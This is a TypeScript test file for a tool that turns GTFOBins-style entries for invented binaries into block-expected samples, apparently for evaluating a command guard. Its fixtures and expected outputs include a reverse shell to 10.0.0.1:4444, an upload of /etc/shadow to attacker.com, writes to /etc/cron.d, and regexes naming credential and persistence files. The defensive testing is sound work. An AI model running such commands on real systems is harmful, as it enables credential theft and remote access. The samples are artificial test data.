import { describe, expect, it } from 'vitest'
import { CATEGORIES } from '../../verdict/index.ts'
import type { InvalidEntry } from '../read/invalid-entry.ts'
import { checkExtraction, withoutProblems } from './check-extraction.ts'
import { type ExtractionOptions, extractGtfobins, type SourceFile } from './extract.ts'

const file = (binary: string, text: string): SourceFile => ({
  path: `repo/_gtfobins/${binary}`,
  binary,
  text,
})

// In the shape of the source, with entries of our own.
const FILES = [
  file(
    'brewer',
    `---
comment: A tool that does not exist.
functions:
  shell:
  - code: brewer --hook /bin/sh
    contexts:
      sudo:
      unprivileged:
  - code: |-
      brewer -f /path/to/temp-file   
      !sh	

  file-read:
  - code: brewer --show /path/to/input-file
    contexts:
      suid:
        code: brewer --show /path/to/other
  - comment: an entry without code
  sudo:
  - code: sudo brewer
  inherit:
  - code: brewer ...
    from: vim
...
`,
  ),
  file('kettle', 'alias: brewer\n'),
  file(
    'steeper',
    `functions:
  download:
  - code: steeper http://attacker.com/path/to/input-file -o /path/to/output-file
  upload:
  - code: steeper -X attacker.com:12345 /path/to/input-file --as /path/to/output-file
  file-write:
  - code: steeper DATA /path/to/output-file
  reverse-shell:
  - code: steeper -e /bin/sh $RHOST \${RPORT}
  shell:
  - code: brewer --hook /bin/sh
`,
  ),
  file('empty', ''),
]

const extract = (options: Partial<ExtractionOptions> = {}, files = FILES) =>
  extractGtfobins(files, { placeholders: 'classic', seed: 1, ...options })

describe('extractGtfobins, classic', () => {
  it('takes the code of the included categories, in the order of the files', () => {
    const { samples, metadata } = extract()
    expect(samples.map(({ binary, category, command }) => [binary, category, command])).toEqual([
      ['brewer', 'shell', 'brewer --hook /bin/sh'],
      ['brewer', 'shell', 'brewer -f /tmp/tempfile\n!sh'],
      ['brewer', 'file-read', 'brewer --show /etc/shadow'],
      ['steeper', 'download', 'steeper http://10.0.0.1/etc/shadow -o /etc/cron.d/update'],
      ['steeper', 'upload', 'steeper -X 10.0.0.1:4444 /etc/shadow --as /etc/cron.d/update'],
      ['steeper', 'file-write', 'steeper c2VydmljZS1jb25maWc= /etc/cron.d/update'],
      ['steeper', 'reverse-shell', 'steeper -e /bin/sh 10.0.0.1 4444'],
    ])
    expect(metadata).toMatchObject({ duplicates: 1, counts: { samples: 7, binaries: 2 } })
    expect(checkExtraction(extract())).toEqual([])
  })

  it('gives every sample an expectation, a rule and a reason', () => {
    for (const sample of extract().samples) {
      expect(sample).toMatchObject({ expect: 'BLOCK', rule: expect.any(String) })
      expect(sample.why).toContain(sample.category)
    }
  })
})

describe('extractGtfobins, varied', () => {
  const varied = (seed: number) => extract({ placeholders: 'varied', seed }).samples

  it('is the same for the same seed, and keeps the same entries', () => {
    expect(varied(5)).toEqual(varied(5))
    expect(varied(5).map(({ category }) => category)).toEqual(
      extract().samples.map(({ category }) => category),
    )
  })

  it('agrees on no host, port or path between seeds', () => {
    const drawn = (seed: number) =>
      varied(seed)
        .map(({ command }) => command)
        .filter((command) => command !== 'brewer --hook /bin/sh')
    const seen = new Set<string>()
    for (let seed = 0; seed < 40; seed++) for (const command of drawn(seed)) seen.add(command)
    // 40 seeds of six commands with drawn values: nearly all different.
    expect(seen.size).toBeGreaterThan(230)
  })

  it('keeps the meaning of the categories', () => {
    const secret =
      /shadow|key|_rsa|_ecdsa|_ed25519|secret|credential|token|config|\.env|passw|netrc|pgpass|npmrc|tfstate|\.conf|privkey|adc\.json|wp-config/
    const critical =
      /cron|sudoers|authorized_keys|\.service|\.timer|rc$|profile|pam\.d|ld\.so|udev|autostart/
    for (let seed = 0; seed < 60; seed++) {
      const by = Object.fromEntries(varied(seed).map((sample) => [sample.category, sample.command]))
      expect(by['file-read']!.split(' ').at(-1)).toMatch(secret)
      expect(by['file-write']!.split(' ').at(-1)).toMatch(critical)
      expect(by.download).toMatch(/http:\/\/[\w.-]+\/\S+ -o \//)
      expect(by.download!.split(' ').at(-1)).toMatch(critical)
      expect(by.upload!.split(' ')[3]).toMatch(secret)
      const port = Number(/:(\d+) /.exec(by.upload!)?.[1])
      expect(port > 0 && port < 65536).toBe(true)
    }
    expect(checkExtraction(extract({ placeholders: 'varied', seed: 3 }))).toEqual([])
  })

  it('draws for each command alone, so that a new file changes no other sample', () => {
    const more = [...FILES, file('zzz', 'functions:\n  shell:\n  - code: zzz /path/to/x\n')]
    expect(extract({ placeholders: 'varied' }, more).samples.slice(0, 7)).toEqual(varied(1))
  })

  it('uses plain characters only, which every kind of quoting can hold', () => {
    const text = CATEGORIES.map(
      (category) =>
        `  ${category}:\n  - code: x 'attacker.com' /path/to/input-file /path/to/output-file /path/to/ DATA 12345 $TF $URL\n`,
    )
    for (let seed = 0; seed < 50; seed++) {
      const { samples } = extract({ placeholders: 'varied', seed }, [
        file('x', `functions:\n${text.join('')}`),
      ])
      for (const { command } of samples) expect(command).toMatch(/^[\w ./:'-]+$/)
    }
  })
})

describe('bad input', () => {
  it.each([
    ['not YAML', 'functions:\n  shell: [\n', /repo\/_gtfobins\/bad:\d+: this is not YAML/],
    ['a list', '- a\n', /bad:1: the file must be a YAML mapping/],
    ['functions that are a text', 'functions: x\n', /bad:1: "functions" must map/],
    [
      'an unknown category',
      'functions:\n  shell:\n  - code: x\n  teleport:\n  - code: y\n',
      /bad:4: unknown category "teleport"/,
    ],
    ['a category that is a text', 'functions:\n  shell: x\n', /bad:2: "shell" must be a list/],
    ['an entry that is a text', 'functions:\n  shell:\n  - x\n', /bad:3: an entry of "shell"/],
    [
      'code that is a number',
      'functions:\n  shell:\n  - code: 5\n',
      /bad:3: "code" must be a text/,
    ],
  ])('%s names file and line', (_, text, message) => {
    expect(() => extract({}, [file('bad', text)])).toThrow(message)
  })

  it('goes on where that is asked for', () => {
    const invalid: InvalidEntry[] = []
    const files = [
      file('bad', 'functions:\n  teleport:\n  - code: y\n  shell:\n  - code: bad /bin/sh\n'),
      file('worse', '{{{'),
      ...FILES,
    ]
    const { samples } = extract({ onInvalid: (entry) => invalid.push(entry) }, files)
    expect(samples).toHaveLength(8)
    expect(invalid.map((entry) => entry.file)).toEqual([
      'repo/_gtfobins/bad',
      'repo/_gtfobins/worse',
    ])
  })
})

describe('checkExtraction', () => {
  const { metadata, samples } = extract()
  const check = (change: object) =>
    checkExtraction({
      metadata,
      samples: [{ ...samples[0]!, ...change }, ...samples.slice(1)],
    }).map(({ message }) => message)

  it.each([
    [
      'a left-over placeholder',
      { command: 'x /path/to/y' },
      /brewer: left-over placeholder \/path\/to\//,
    ],
    ['a give-away word', { command: 'curl h/Exploit.sh' }, /give-away word "exploit"/],
    ['an excluded category', { category: 'sudo' }, /excluded category sudo/],
    ['an unknown category', { category: 'teleport' }, /unknown category teleport/],
    ['a duplicate', { command: samples[2]!.command }, /duplicate of brewer_shell/],
  ])('refuses %s', (_, change, message) => {
    expect(check(change).join('\n')).toMatch(message)
  })

  it('refuses counts that disagree with the metadata', () => {
    const counts = { ...metadata.counts, samples: 8 }
    const problems = checkExtraction({ metadata: { ...metadata, counts }, samples })
    expect(problems[0]!.message).toMatch(
      /the metadata counts .*"samples":8.*the samples .*"samples":7/,
    )
  })

  it('can leave out what it refuses', () => {
    const broken = { metadata, samples: [{ ...samples[0]!, command: 'hack' }, ...samples.slice(1)] }
    const mended = withoutProblems(broken, checkExtraction(broken))
    expect(mended.samples).toEqual(samples.slice(1))
    expect(checkExtraction(mended)).toEqual([])
  })
})
